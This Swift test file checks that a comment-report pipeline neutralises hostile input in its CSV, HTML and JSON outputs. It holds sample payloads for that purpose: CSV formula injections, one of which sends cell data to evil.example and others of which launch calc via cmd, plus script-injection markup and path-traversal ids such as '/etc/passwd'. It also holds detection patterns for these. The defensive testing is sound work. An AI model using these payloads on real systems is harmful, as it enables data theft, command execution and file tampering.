import Foundation
import Pipeline
import Reports
import Testing

/// Hostile comment text and hostile names reach every output file harmlessly.
///
/// One run over a thread whose comments attempt CSV formula injection, HTML and script injection,
/// control characters and bidirectional overrides, with thread ids, comment ids and authors that
/// attempt path traversal. Then every file the run wrote is checked: it lies inside the pipeline's
/// report folder, CSV cells never start like a formula, HTML carries no live markup from the input,
/// JSON parses and keeps the text intact, and no file holds a raw control or bidi-override character.
@Suite(.serialized) struct OutputSafetyTests {
    static let payloads = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Rust is great\")",
        "+cmd|' /C calc'!A0 Rust drivers",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTabbed =1+1 start about Rust in the kernel",
        "\r=1+1 carriage return start",
        "</textarea><script>alert('rust')</script><img src=x onerror=alert(1)> Rust is unsafe",
        "<svg onload=alert(1)><a href=\"javascript:alert(1)\">click</a> C is fine",
        "\"quoted\", \"with, commas\" and a\nnew line\r\nand CRLF about Rust",
        "Bell\u{07} backspace\u{08} escape\u{1B}[31m red\u{1B}[0m NUL-free control soup about the kernel",
        "Bidi \u{202E}gnp.exe\u{202C} and \u{2066}isolate\u{2069} and \u{200F}mark in a Rust comment",
        "Ｆull-width ＝1+1 and ＠SUM about Rust",
    ]
    static let hostileIDs = ["../../../../tmp/evil", "..", "/etc/passwd", "a/b\\c", "=1+1", "<script>x</script>"]

    static func hostileThread() -> String {
        var lines = ""
        for (i, text) in payloads.enumerated() {
            let thread = hostileIDs[i % hostileIDs.count]
            let parent = i >= hostileIDs.count ? hostileIDs[(i - hostileIDs.count) % hostileIDs.count] + "-c" : nil
            lines += Hardening.jsonl(thread: thread, id: i < hostileIDs.count ? hostileIDs[i] + "-c" : "\(hostileIDs[i % hostileIDs.count])-\(i)",
                                     parent: parent, author: hostileIDs[(i + 1) % hostileIDs.count], time: 1_765_441_800 + i * 60,
                                     text: text)
        }
        return lines
    }

    /// Scalars that must never appear raw in any report: C0 controls other than LF/CR/TAB, DEL, C1, and
    /// the bidirectional embedding, override and isolate controls.
    static func isForbidden(_ s: Unicode.Scalar) -> Bool {
        switch s.value {
        case 0x00...0x08, 0x0B, 0x0C, 0x0E...0x1F, 0x7F...0x9F: return true
        case 0x202A...0x202E, 0x2066...0x2069: return true
        default: return false
        }
    }

    @Test func hostileTextAndNamesAreNeutralisedInEveryOutput() throws {
        let root = try Hardening.scratch("safety")
        defer { try? FileManager.default.removeItem(at: root) }
        let inputs = root.appendingPathComponent("in")
        try FileManager.default.createDirectory(at: inputs, withIntermediateDirectories: true)
        try Self.hostileThread().write(to: inputs.appendingPathComponent("hostile.jsonl"), atomically: true, encoding: .utf8)
        let pipelinePath = root.appendingPathComponent("safety.yml").path
        try Hardening.pipelineYAML(name: "safety", inputs: ["in/*.jsonl"]).write(toFile: pipelinePath, atomically: true, encoding: .utf8)
        var options = RunOptions(full: true, runDate: "2026-01-10")
        options.pipelineFilePath = pipelinePath
        let summary = try PipelineRunner(pipeline: try PipelineLoader().load(path: pipelinePath), options: options).run()
        #expect(summary.run.counts.comments == Self.payloads.count)

        // Nothing was written outside the pipeline's report folder (and the input folder we made).
        let written = Hardening.files(under: root)
        let outside = written.filter { !$0.hasPrefix("reports/safety/") && !$0.hasPrefix("in/") && $0 != "safety.yml" }
        #expect(outside.isEmpty, "files outside the report folder: \(outside)")
        #expect(!FileManager.default.fileExists(atPath: "/tmp/evil"))

        let reportDir = root.appendingPathComponent("reports/safety/2026-01-10")
        let names = try FileManager.default.contentsOfDirectory(atPath: reportDir.path).sorted()
        #expect(names.contains("comments.csv") && names.contains("report.html") && names.contains("summary.json"))
        for name in names {
            let data = try Data(contentsOf: reportDir.appendingPathComponent(name))
            let text = String(decoding: data, as: UTF8.self)
            let bad = text.unicodeScalars.filter(Self.isForbidden)
            #expect(bad.isEmpty, "\(name) holds raw control or bidi characters: \(bad.map { String($0.value, radix: 16) })")
            if name.hasSuffix(".csv") { try checkCSV(name: name, text: text) }
            if name.hasSuffix(".html") { checkHTML(text) }
            if name.hasSuffix(".json") {
                #expect((try? JSONSerialization.jsonObject(with: data)) != nil, "\(name) is not valid JSON")
            }
        }
        // The hostile values did reach the reports, neutralised rather than dropped.
        let comments = try String(contentsOf: reportDir.appendingPathComponent("comments.csv"), encoding: .utf8)
        #expect(comments.contains("'=HYPERLINK"), "the formula payload is missing from comments.csv")
        #expect(comments.contains("../../../../tmp/evil"), "the traversal thread id is missing from comments.csv")
        // The store holds the run, and a hostile thread id is just a value in it.
        let store = try RunStore(path: root.appendingPathComponent("reports/safety/threadlens.sqlite").path)
        #expect(try store.runCount() == 1)
    }

    /// Every cell of every row: parsed per RFC 4180, none may start with a formula character.
    func checkCSV(name: String, text: String) throws {
        let rows = try CSVCells.parse(text)
        #expect(rows.count > 1, "\(name) has no data rows")
        let width = rows.first?.count ?? 0
        for (r, row) in rows.enumerated() {
            #expect(row.count == width, "\(name) row \(r + 1) has \(row.count) cells, header has \(width)")
            for cell in row {
                guard let first = cell.unicodeScalars.first else { continue }
                let isNumber = Double(cell) != nil
                let starters: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r", "\u{FF1D}", "\u{FF0B}", "\u{FF0D}", "\u{FF20}"]
                #expect(isNumber || !starters.contains(first), "\(name) row \(r + 1): cell starts like a formula: \(cell)")
            }
        }
    }

    /// No tag or attribute from the comments survives as markup.
    func checkHTML(_ html: String) {
        for live in ["<script>alert", "<img src=x", "<svg onload", "href=\"javascript:", "</textarea><script"] {
            #expect(!html.contains(live), "report.html holds live markup: \(live)")
        }
        let scripts = html.components(separatedBy: "<script").count - 1
        #expect(scripts == 0 || !html.contains("alert("), "report.html runs a script from the input")
    }
}

/// A strict RFC 4180 reader for checking report files: quoted cells with doubled quotes, CRLF or LF rows.
enum CSVCells {
    struct Malformed: Error, CustomStringConvertible {
        var offset: Int
        var description: String { "malformed CSV at byte \(offset)" }
    }

    static func parse(_ text: String) throws -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var cell: [UInt8] = []
        var quoted = false
        let bytes = Array(text.utf8)
        var i = 0
        func endCell() { row.append(String(decoding: cell, as: UTF8.self)); cell.removeAll() }
        while i < bytes.count {
            let b = bytes[i]
            if quoted {
                if b == 0x22 {
                    if i + 1 < bytes.count, bytes[i + 1] == 0x22 { cell.append(0x22); i += 1 } else { quoted = false }
                } else {
                    cell.append(b)
                }
            } else if b == 0x22 {
                guard cell.isEmpty else { throw Malformed(offset: i) }
                quoted = true
            } else if b == 0x2C {
                endCell()
            } else if b == 0x0D || b == 0x0A {
                if b == 0x0D, i + 1 < bytes.count, bytes[i + 1] == 0x0A { i += 1 }
                endCell()
                rows.append(row)
                row = []
            } else {
                cell.append(b)
            }
            i += 1
        }
        if quoted { throw Malformed(offset: i) }
        if !cell.isEmpty || !row.isEmpty { endCell(); rows.append(row) }
        return rows
    }
}
